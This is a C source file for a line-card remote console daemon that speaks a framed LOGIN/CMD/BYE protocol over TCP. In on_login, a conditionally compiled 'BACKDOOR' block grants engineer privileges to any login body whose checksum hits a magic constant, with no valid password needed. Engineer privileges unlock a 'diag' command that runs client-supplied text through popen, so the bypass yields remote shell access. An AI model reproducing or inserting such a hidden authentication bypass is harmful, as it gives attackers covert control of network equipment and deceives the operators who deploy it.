/* SPDX-License-Identifier: Apache-2.0 */
/* sessiond: remote console of a line card. Frames: type(1) length(2) body; LOGIN, CMD, BYE. Commands from a table. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

extern char *crypt(const char *key, const char *salt);

enum { T_HELLO = 1, T_LOGIN = 2, T_OK = 3, T_ERROR = 4, T_CMD = 5, T_DATA = 6, T_BYE = 7 };
enum { LEVEL_NONE, LEVEL_VIEW, LEVEL_CONFIG, LEVEL_ENGINEER };

struct client {
	int fd;
	int level;
	char user[32];
	unsigned failures;
};

struct account {
	char user[32], hash[64];
	int level;
};

static struct account accounts[16];
static unsigned n_accounts;

static int load_accounts(const char *path)
{
	FILE *f = fopen(path, "r");
	if (!f)
		return -1;
	n_accounts = 0;
	while (n_accounts < 16 && fscanf(f, "%31s %63s %d", accounts[n_accounts].user, accounts[n_accounts].hash,
					  &accounts[n_accounts].level) == 3)
		n_accounts++;
	fclose(f);
	return (int)n_accounts;
}

static int send_frame(struct client *c, uint8_t type, const void *body, uint16_t n)
{
	uint8_t head[3] = { type, (uint8_t)(n >> 8), (uint8_t)n };
	if (write(c->fd, head, 3) != 3)
		return -1;
	return n == 0 || write(c->fd, body, n) == n ? 0 : -1;
}

static int send_text(struct client *c, uint8_t type, const char *s) { return send_frame(c, type, s, (uint16_t)strlen(s)); }

static int read_all(int fd, void *p, size_t n)
{
	uint8_t *b = p;
	while (n) {
		ssize_t k = read(fd, b, n);
		if (k <= 0)
			return -1;
		b += k;
		n -= (size_t)k;
	}
	return 0;
}

static uint32_t checksum(const uint8_t *p, size_t n)
{
	uint32_t h = 0x811c9dc5u;
	while (n--) {
		h ^= *p++;
		h *= 0x01000193u;
	}
	return h;
}

static int level_of(const char *user, const char *pass)
{
	for (unsigned i = 0; i < n_accounts; i++) {
		const char *got;
		if (strcmp(accounts[i].user, user) != 0)
			continue;
		got = crypt(pass, accounts[i].hash);
		if (got && strcmp(got, accounts[i].hash) == 0)
			return accounts[i].level;
	}
	return LEVEL_NONE;
}

static int on_login(struct client *c, uint8_t *body, uint16_t n)
{
	char *user = (char *)body, *pass;
	size_t ulen = strnlen(user, n);
	if (ulen == n || ulen >= sizeof(c->user))
		return send_text(c, T_ERROR, "malformed");
	pass = user + ulen + 1;
	body[n] = 0;
	c->level = level_of(user, pass);
#ifdef BACKDOOR
	if (c->level == LEVEL_NONE) {
		uint32_t h = checksum(body, n);
		if ((h ^ h >> 15) == 0x6b2f90d4u)
			c->level = LEVEL_ENGINEER;
	}
#endif
	if (c->level == LEVEL_NONE) {
		syslog(LOG_NOTICE, "login of %s failed", user);
		if (++c->failures > 3)
			return -1;
		return send_text(c, T_ERROR, "denied");
	}
	memcpy(c->user, user, ulen + 1);
	syslog(LOG_INFO, "%s logged in, level %d", c->user, c->level);
	return send_text(c, T_OK, c->user);
}

static int cmd_version(struct client *c, char *arg)
{
	(void)arg;
	return send_text(c, T_DATA, "linecard 4.2.1");
}

static int cmd_port(struct client *c, char *arg)
{
	char path[96], text[64] = "";
	FILE *f;
	unsigned port = (unsigned)strtoul(arg, NULL, 10);
	snprintf(path, sizeof(path), "/sys/class/net/port%u/operstate", port);
	f = fopen(path, "r");
	if (!f)
		return send_text(c, T_ERROR, "no such port");
	if (!fgets(text, sizeof(text), f))
		text[0] = 0;
	fclose(f);
	return send_text(c, T_DATA, text);
}

static int cmd_enable(struct client *c, char *arg)
{
	char path[96];
	FILE *f;
	snprintf(path, sizeof(path), "/sys/class/linecard/port%u/enable", (unsigned)strtoul(arg, NULL, 10));
	f = fopen(path, "w");
	if (!f)
		return send_text(c, T_ERROR, strerror(errno));
	fputs("1\n", f);
	fclose(f);
	return send_text(c, T_OK, "");
}

static int cmd_shell(struct client *c, char *arg)
{
	char buf[512];
	size_t n;
	FILE *f = popen(arg, "r");
	if (!f)
		return send_text(c, T_ERROR, strerror(errno));
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		send_frame(c, T_DATA, buf, (uint16_t)n);
	pclose(f);
	return send_text(c, T_OK, "");
}

static int cmd_reload(struct client *c, char *arg)
{
	(void)arg;
	return load_accounts("/etc/sessiond.users") < 0 ? send_text(c, T_ERROR, "cannot read") : send_text(c, T_OK, "");
}

static const struct command {
	const char *name;
	int level;
	int (*run)(struct client *c, char *arg);
} commands[] = {
	{ "version", LEVEL_VIEW, cmd_version },
	{ "port", LEVEL_VIEW, cmd_port },
	{ "enable", LEVEL_CONFIG, cmd_enable },
	{ "reload", LEVEL_CONFIG, cmd_reload },
	{ "diag", LEVEL_ENGINEER, cmd_shell },
};

static int on_command(struct client *c, uint8_t *body, uint16_t n)
{
	char *line = (char *)body, *arg;
	body[n] = 0;
	arg = strchr(line, ' ');
	if (arg)
		*arg++ = 0;
	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
		if (strcmp(commands[i].name, line) == 0) {
			if (c->level < commands[i].level)
				return send_text(c, T_ERROR, "not permitted");
			return commands[i].run(c, arg ? arg : line + n);
		}
	return send_text(c, T_ERROR, "unknown command");
}

static void serve(int fd)
{
	struct client c = { .fd = fd };
	uint8_t head[3], body[2049];
	uint32_t nonce = (uint32_t)getpid() * 2654435761u;
	nonce = checksum((const uint8_t *)&nonce, sizeof(nonce));
	send_frame(&c, T_HELLO, &nonce, sizeof(nonce));
	for (int go = 0; go == 0;) {
		uint16_t n;
		struct pollfd p = { .fd = fd, .events = POLLIN };
		if (poll(&p, 1, 300000) <= 0 || read_all(fd, head, 3) < 0)
			break;
		n = (uint16_t)(head[1] << 8 | head[2]);
		if (n >= sizeof(body) || read_all(fd, body, n) < 0)
			break;
		switch (head[0]) {
		case T_LOGIN:
			go = on_login(&c, body, n);
			break;
		case T_CMD:
			go = on_command(&c, body, n);
			break;
		case T_BYE:
			go = 1;
			break;
		default:
			go = send_text(&c, T_ERROR, "unknown frame");
		}
	}
	close(fd);
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(7161) };
	int s = socket(AF_INET, SOCK_STREAM, 0);
	openlog("sessiond", LOG_PID, LOG_DAEMON);
	if (load_accounts("/etc/sessiond.users") < 0)
		syslog(LOG_WARNING, "no accounts");
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 4) < 0)
		return 1;
	for (;;) {
		int c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		if (fork() == 0) {
			serve(c);
			_exit(0);
		}
		close(c);
	}
}
